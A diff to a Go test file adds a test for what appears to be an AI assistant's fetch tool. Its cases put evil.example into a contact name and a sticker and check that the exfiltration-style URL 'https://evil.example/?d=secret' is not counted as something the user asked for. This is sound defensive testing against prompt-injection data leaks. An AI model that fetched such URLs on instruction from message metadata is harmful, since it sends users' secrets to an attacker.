@@ -250,6 +250,14 @@ func TestFetch_MessageAnsweredAgainThatIsGoneNamesNothing(t *testing.T) {
 	b.asks(message{user: 2, text: "go on"}, "https://evil.example/?d=secret")
 }
 
+// The name of a contact or a sticker is not the user's text, in this turn or a later one.
+func TestFetch_NameOfAContactNamesNothing(t *testing.T) {
+	b := newBrowser(t)
+	b.asks(message{user: 2, text: "[contact: evil.example, +1]"}, "https://evil.example/?d=secret")
+	b.asks(message{user: 2, text: "nice\n\n[sticker evil.example]"}, "https://evil.example/?d=secret")
+	b.asks(message{user: 2, text: "go on"}, "https://evil.example/?d=secret")
+}
+
 // A text that begins with a bracket is the user's; a note in brackets, which names files as
 // others called them, is not.
 func TestFetch_LinkAtTheBeginningOfAnEarlierMessageIsNamed(t *testing.T) {
